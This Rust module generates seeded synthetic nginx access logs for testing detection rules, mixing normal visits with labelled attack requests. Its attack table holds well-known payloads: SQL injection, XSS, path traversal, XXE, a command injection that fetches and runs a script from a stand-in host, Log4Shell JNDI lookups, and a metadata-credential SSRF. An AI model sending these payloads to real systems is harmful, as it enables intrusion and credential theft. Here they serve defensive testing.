//! Seeded web traffic in nginx's combined format: visitors, crawlers, and a share of attacks.
//!
//! *Input.* A seed and the share of attacks. *Output.* One line at a time, and whether it is an
//! attack. *Limits.* The attacks are well-known ones, each of which a working rule set must find;
//! the traffic shows and measures, it does not judge how good the rules are.

use std::io::Write as _;

use fastrand::Rng;
use vigil_event::Timestamp;

/// Makes lines of traffic.
#[derive(Clone, Debug)]
pub struct Traffic {
    random: Rng,
    attack_share: f64,
    attacks: u64,
}

const PAGES: [&str; 24] = [
    "/",
    "/products",
    "/products/blue-kettle",
    "/products/4711",
    "/cart",
    "/blog/2026/how-we-brew",
    "/blog/union-hall-select-committee-meets",
    "/search?q=garden+chairs&sort=price&page=2",
    "/search?q=select+a+tea+from+the+list",
    "/search?q=O%27Brien%20whiskey",
    "/api/v1/items?limit=50&offset=100&fields=id,name,price",
    "/api/v1/items/8812",
    "/account/orders?year=2025",
    "/login?next=%2Faccount",
    "/news/%D0%BF%D0%BE%D0%B3%D0%BE%D0%B4%D0%B0",
    "/maps?lat=52.5200&lon=13.4050&zoom=11",
    "/static/app.4f2a9c.css",
    "/static/app.9b1d02.js",
    "/static/fonts/inter.woff2",
    "/images/hero.webp",
    "/favicon.ico",
    "/robots.txt",
    "/feed.xml?utm_source=newsletter&utm_campaign=spring",
    "/health",
];

const AGENTS: [&str; 8] = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.5 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 16; Pixel 9) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
];

const REFERRERS: [&str; 5] = [
    "-",
    "-",
    "https://www.example.com/",
    "https://www.google.com/",
    "https://news.example.net/item?id=99",
];

/// How many addresses attack.
const ATTACKERS: usize = 8;
/// How many of the attacks each of them knows.
const HABITS: usize = 5;

/// An attack: its target, and its user agent where that is the attack.
const ATTACKS: [(&str, Option<&str>); 20] = [
    (
        "/products?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20-",
        None,
    ),
    ("/login?user=admin%27%20OR%20%271%27=%271%27--%20", None),
    ("/item?id=1;DROP%20TABLE%20orders;--", None),
    ("/item?id=1%20AND%20SLEEP(5)", None),
    (
        "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
        None,
    ),
    (
        "/search?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E",
        None,
    ),
    ("/c?x=%3Cimg%20src=x%20onerror=alert(1)%3E", None),
    ("/download?file=../../../../../../etc/passwd", None),
    ("/static/..%252f..%252f..%252f..%252fetc%252fshadow", None),
    (
        "/view?page=php://filter/convert.base64-encode/resource=config.php",
        None,
    ),
    ("/ping?host=127.0.0.1;cat%20/etc/passwd", None),
    (
        "/cgi-bin/status?x=$(curl%20http://198.51.100.9/a.sh|sh)",
        None,
    ),
    ("/?x=${jndi:ldap://198.51.100.9:1389/a}", None),
    (
        "/api/v1/items",
        Some("${${lower:j}ndi:${lower:l}dap://198.51.100.9/x}"),
    ),
    (
        "/fetch?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        None,
    ),
    (
        "/xml?doc=%3C!DOCTYPE%20a%20[%3C!ENTITY%20x%20SYSTEM%20%22file:///etc/passwd%22%3E]%3E%3Ca%3E%26x;%3C/a%3E",
        None,
    ),
    ("/redirect?to=%0d%0aSet-Cookie:%20session=evil", None),
    ("/.git/config", None),
    ("/.env", None),
    (
        "/products?id=1",
        Some("sqlmap/1.8.4#stable (https://sqlmap.org)"),
    ),
];

impl Traffic {
    /// Traffic that follows from the seed; `attack_share` is 0.0 to 1.0.
    pub fn new(seed: u64, attack_share: f64) -> Self {
        Self {
            random: Rng::with_seed(seed),
            attack_share,
            attacks: 0,
        }
    }

    /// Appends the next line, with its newline, and says whether it is an attack.
    pub fn write_line(&mut self, line: &mut Vec<u8>, at: Timestamp) -> bool {
        let attack = self.random.f64() < self.attack_share;
        if attack {
            self.write_attack(line, at);
        } else {
            self.write_visit(line, at);
        }
        attack
    }

    /// Appends an attack that bears a number of its own, by which it can be found again.
    pub fn write_attack(&mut self, line: &mut Vec<u8>, at: Timestamp) {
        self.attacks += 1;
        // The first attackers are the busiest, and each has habits of its own.
        let attacker = self
            .random
            .usize(..ATTACKERS)
            .min(self.random.usize(..ATTACKERS));
        let habit = attacker * HABITS / 2 + self.random.usize(..HABITS);
        let (target, agent) = ATTACKS[habit % ATTACKS.len()];
        let agent = agent.unwrap_or_else(|| self.pick(&AGENTS));
        let join = if target.contains('?') { '&' } else { '?' };
        let target = format!("{target}{join}n={}", self.attacks);
        // An address kept for documentation, so that nobody is named.
        let address = format!("203.0.113.{}", 7 + attacker * 11);
        let status = *self
            .random
            .choice(&[200u16, 403, 404, 404, 500])
            .unwrap_or(&404);
        write(
            line,
            &Request {
                address: &address,
                at,
                target: &target,
                status,
                referrer: "-",
                agent,
            },
        );
    }

    fn write_visit(&mut self, line: &mut Vec<u8>, at: Timestamp) {
        let host = self.random.u16(..20_000);
        let address = format!("10.{}.{}.{}", host >> 8, host & 0xff, 1 + host % 250);
        let target = self.pick(&PAGES);
        let status = if self.random.u8(..100) < 3 { 404 } else { 200 };
        let (referrer, agent) = (self.pick(&REFERRERS), self.pick(&AGENTS));
        write(
            line,
            &Request {
                address: &address,
                at,
                target,
                status,
                referrer,
                agent,
            },
        );
    }

    fn pick(&mut self, from: &[&'static str]) -> &'static str {
        from[self.random.usize(..from.len())]
    }
}

struct Request<'a> {
    address: &'a str,
    at: Timestamp,
    target: &'a str,
    status: u16,
    referrer: &'a str,
    agent: &'a str,
}

fn write(line: &mut Vec<u8>, request: &Request<'_>) {
    let Request {
        address,
        at,
        target,
        status,
        referrer,
        agent,
    } = request;
    let time = clf_time(*at);
    let bytes = 200 + target.len() * 37 % 20_000;
    // Writing to memory cannot fail.
    _ = writeln!(
        line,
        "{address} - - [{time}] \"GET {target} HTTP/1.1\" {status} {bytes} \"{referrer}\" \"{agent}\""
    );
}

/// A time as nginx and Apache write it: `21/Nov/2026:02:09:58 +0000`.
pub fn clf_time(at: Timestamp) -> String {
    const MONTHS: [&str; 12] = [
        "Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec",
    ];
    let text = at.to_string();
    let part = |range: std::ops::Range<usize>| text.get(range).unwrap_or_default();
    let month = part(5..7)
        .parse::<usize>()
        .ok()
        .and_then(|number| MONTHS.get(number - 1))
        .copied()
        .unwrap_or("Jan");
    format!(
        "{}/{month}/{}:{} +0000",
        part(8..10),
        part(0..4),
        part(11..19)
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_seed_makes_the_same_traffic() {
        let at = Timestamp::from_millis(1_795_176_598_000);
        let lines = |seed| {
            let mut traffic = Traffic::new(seed, 0.5);
            let mut text = Vec::new();
            let attacks = (0..100)
                .filter(|_| traffic.write_line(&mut text, at))
                .count();
            (text, attacks)
        };
        assert_eq!(lines(1), lines(1));
        assert_ne!(lines(1).0, lines(2).0);
        assert!((30..70).contains(&lines(1).1));
    }

    #[test]
    fn times_are_written_as_servers_write_them() {
        assert_eq!(
            clf_time(Timestamp::from_millis(1_795_176_598_000)),
            "20/Nov/2026:12:09:58 +0000"
        );
    }
}
